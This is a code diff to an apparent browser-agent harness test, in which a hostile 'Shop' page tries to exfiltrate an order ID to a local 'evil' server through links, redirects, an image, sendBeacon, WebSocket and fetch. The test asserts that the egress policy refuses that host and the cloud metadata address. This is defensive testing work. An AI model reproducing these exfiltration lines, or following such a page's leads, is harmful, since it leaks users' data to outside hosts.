@@ -26,9 +26,11 @@ test('H5 H15 what a page wants sent elsewhere, and where it wants the agent to g
   const evil = await serve(() => 'evil');
   const elsewhere = `127.0.0.1:${evil.port}`;
   const shop = await serve(path =>
-    path === '/redirect'
-      ? `http://${elsewhere}/redirect?d=mia-1234`
-      : `<title>Shop</title><h1>Order mia-1234</h1><a href="http://${elsewhere}/link?d=mia-1234">details</a>
+    path === '/start'
+      ? `<title>Shop</title><a href="http://${elsewhere}/link?d=mia-1234">details</a>`
+      : path === '/redirect'
+        ? `http://${elsewhere}/redirect?d=mia-1234`
+        : `<title>Shop</title><h1>Order mia-1234</h1><a href="http://${elsewhere}/link?d=mia-1234">details</a>
     <img src="http://${elsewhere}/img?d=mia-1234"><script>
     navigator.sendBeacon('http://${elsewhere}/beacon', 'mia-1234'); new WebSocket('ws://${elsewhere}/socket?d=mia-1234');
     fetch('http://${elsewhere}/fetch?d=mia-1234').catch(() => {});
@@ -51,9 +53,9 @@ const agentModel = scripted({
 });
 test.use({ agentModel });
 test('hostile', async ({ agent, page }) => {
-  await page.goto(process.env.SHOP);
+  await page.goto(process.env.SHOP + 'start');
   const run = await agent.run({ id: 'order', instruction: 'Read the order.' }, { assert: false });
-  expect(run.steps).toBe(7);
+  expect(run.steps).toBe(8);
   // Between attempts the lines are the author's own.
   expect(await (await page.request.get(process.env.EVIL + 'author')).text()).toBe('evil');
 });`,
@@ -62,12 +64,11 @@ test('hostile', async ({ agent, page }) => {
   evil.server.close();
   shop.server.close();
   expect(run.tests[0]?.errors, run.stdout).toEqual([]);
-  // Before the attempt the page was opened by the author; what the attempt caused is what is not there.
   const attempt = run.tests[0]!.attempts[0]!;
   const folder = join(run.folder, attempt.runFolder);
   const observed = readFileSync(join(folder, 'events.jsonl'), 'utf8');
   const { egressHosts, egress } = JSON.parse(readFileSync(join(folder, 'run.json'), 'utf8'));
-  expect(evil.asked.filter(path => /link|redirect|admin/.test(path))).toEqual([]);
+  expect(evil.asked).toEqual(['/author']);
   expect(observed).toContain(`Refused by the egress policy: ${elsewhere}: port ${evil.port} is none that the task names for it.`);
   expect(observed).toContain('Refused by the egress policy: 169.254.169.254:80: it is a link-local address');
   expect(egressHosts.map(({ host }: { host: string }) => host).sort()).toEqual(
